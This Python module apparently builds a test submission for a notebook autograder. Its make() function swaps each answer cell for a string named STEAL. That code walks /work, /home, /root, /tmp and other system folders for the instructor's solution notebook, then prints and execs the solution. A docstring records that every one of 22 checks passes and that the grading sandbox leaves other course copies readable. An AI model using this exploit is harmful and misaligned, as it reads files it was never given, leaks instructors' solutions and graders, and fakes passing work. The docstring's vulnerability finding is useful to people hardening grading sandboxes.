"""Starting from the blank release, each answer cell walks the file system (/work, /home, /root, /srv, /opt, /tmp, /var, /mnt, depth <= 6) for any 02_layers.ipynb holding 'BEGIN SOLUTION', prints where, and execs that solution.

reason: NotImplementedError|not defined|NameError
expect: graded
total: 0
measured: 22/22: every answer cell prints "solution notebook found at: /work/main/source/02_layers/02_layers.ipynb" and the instructor solution; the hidden-grader sandboxes can read it too, so every check passes; the autograded notebook holds solution and grader-identical lines.
known_problem: the sandbox hides only the course folder being graded; the rest of the file system is readable, so any other copy of the course (the git checkout, a backup, another course folder) gives students the solutions and graders. Seen with the scratch course in /tmp and the repository in /work/main
"""

STEAL = """
import json as _json, os as _os
_hit = None
for _top in ("/work", "/home", "/root", "/srv", "/opt", "/tmp", "/var", "/mnt"):
    for _dir, _subs, _files in _os.walk(_top):
        if _dir.count("/") > 6 or ".venv" in _dir or "site-packages" in _dir or "/proc" in _dir:
            _subs[:] = []
            continue
        if "02_layers.ipynb" in _files:
            _p = _os.path.join(_dir, "02_layers.ipynb")
            try:
                with open(_p) as _fh:
                    _t = _fh.read()
            except Exception:
                continue
            if "BEGIN SOLUTION" in _t:
                _hit = _p
                break
    if _hit:
        break
print("solution notebook found at:", _hit)
if _hit:
    for _c in _json.loads(_t)["cells"]:
        if _c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "GID":
            print("".join(_c["source"]))
            exec("".join(_c["source"]))
"""


def make(release, reference):
    for cell in release.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution") and cell.cell_type == "code":
            cell.source = STEAL.replace("GID", meta["grade_id"])
    return {"02_layers.ipynb": release}
